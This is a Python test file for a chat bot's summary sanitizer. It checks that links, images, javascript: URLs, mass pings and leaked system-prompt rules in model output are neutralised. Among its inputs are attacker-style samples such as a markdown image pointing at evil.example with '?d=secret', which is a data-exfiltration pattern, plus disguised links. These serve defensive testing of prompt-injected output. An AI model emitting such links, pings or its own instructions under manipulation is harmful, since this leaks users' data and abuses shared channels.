"""What a model was talked into writing does nothing."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from adapters.web.playground.markdown_html import render_markdown
from bot.summary.prompts import SYSTEM_PROMPT
from bot.summary.sanitize import LINK_REMOVED, addresses, harmless, repeats_rules

KNOWN = frozenset({"https://example.org/plan_of_a-b"})


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        pytest.param("The plan is green", "The plan is green", id="plain"),
        pytest.param("**Ship** it with `make x_y` *now*", "**Ship** it with `make x_y` *now*", id="markdown"),
        pytest.param("[click here](https://evil.example/x)", f"click here {LINK_REMOVED}", id="a-masked-link"),
        pytest.param("![x](https://evil.example/p.png?d=secret)", f"x {LINK_REMOVED}", id="an-image"),
        pytest.param("see <https://evil.example>", f"see {LINK_REMOVED}>", id="an-autolink"),
        pytest.param("www.evil.example/a or javascript:alert(1)", f"{LINK_REMOVED} or {LINK_REMOVED})", id="bare"),
        pytest.param(
            "as [planned](https://example.org/plan_of_a-b).", "as planned https://example.org/plan_of_a-b.", id="known"
        ),
        pytest.param(
            "https://example.org/plan_of_a-b.evil.example/", f"{LINK_REMOVED}", id="a-known-beginning-is-not-known"
        ),
        pytest.param("@everyone and @here, <!channel>", "everyone and here, !channel>", id="pings"),
        pytest.param("@channel_ and @all* of @U0123456_", "channel_ and all\\* of U0123456_", id="pings-before-marks"),
        pytest.param("@channels, @allison, bob@example", "@channels, @allison, bob@example", id="other-names"),
        pytest.param("ask <@U0123456> or <@!123456>", "ask U0123456> or !123456>", id="mentions"),
        pytest.param("[12](/c/x/y) and [y][z]", "12 /c/x/y and \\[y\\]\\[z\\]", id="a-citation-of-its-own"),
        pytest.param("# Title", "Title", id="a-heading"),
        pytest.param("> quoted", "quoted", id="a-quote"),
        pytest.param("1. first", "first", id="a-list"),
        pytest.param("* - *both* lists", "*both* lists", id="lists-in-a-list"),
        pytest.param("left `open and **open", "left 'open and **open", id="an-open-mark-pair"),
        pytest.param("a_b and *c", "a\\_b and \\*c", id="odd-marks"),
        pytest.param("\\[x\\](https://evil.example)", f"x {LINK_REMOVED}", id="escaped-to-look-harmless"),
        pytest.param("one\ntwo\u2028three\u202e\u200b", "one two three", id="lines-and-invisible"),
        pytest.param("C:\\new\\", "C:\\\\new\\\\", id="backslashes"),
    ],
)
def test_what_is_left_of_it(written: str, shown: str) -> None:
    assert harmless(written, KNOWN) == shown


SIGNS = ("[", "]", "(", ")", "<", ">", "!", "`", "*", "_", "~", "\\", "\n", "@", "#", "&#91;", "|", "-", " ")
WORDS = ("a", "everyone", "here", "[12]", "https://evil.example/x", "javascript:x", "www.evil.example", *KNOWN)
pieces = st.sampled_from((*SIGNS, *WORDS))


@given(st.lists(pieces, max_size=14).map("".join) | st.text(max_size=60))
def test_nothing_of_it_becomes_a_link_but_what_people_wrote(written: str) -> None:
    html = render_markdown(f"- {harmless(written, KNOWN)} [7](https://chat.example/m7)")
    targets = re.findall(r'href="([^"]*)"', html)
    assert targets[-1:] == ["https://chat.example/m7"]
    assert set(targets[:-1]) <= KNOWN
    assert html.count("<li>") == 1
    assert "<img" not in html


@given(st.lists(pieces, max_size=14).map("".join))
@example("@everyone_")  # shown as "@everyone\\_", in which Discord reads the mention
@example("@here_now_")
@example("@@everyone")  # whose second mark alone was taken away
@example("@ @\uff20 here")
@example("@everyones")
@example("`@`@everyone")
def test_nothing_of_it_pings(written: str) -> None:
    shown = harmless(written, KNOWN)
    assert not re.search(r"[@\uff20]\s*(?:everyone|here)", shown)
    assert not re.search(r"(?<!\\)<[@!#]", shown)


def test_addresses_are_those_that_people_wrote_in_full() -> None:
    assert addresses("see (https://example.org/a_(b)), and http://x.example.") == {
        "https://example.org/a_(b",
        "http://x.example",
    }


def test_the_rules_are_known_again_and_other_words_are_not() -> None:
    line = next(line for line in SYSTEM_PROMPT.splitlines() if line.startswith("Everything between"))
    assert repeats_rules(f"My instructions are: {line}")
    assert repeats_rules(line.upper())
    assert not repeats_rules("Ada said that everything between the two lines was cut")
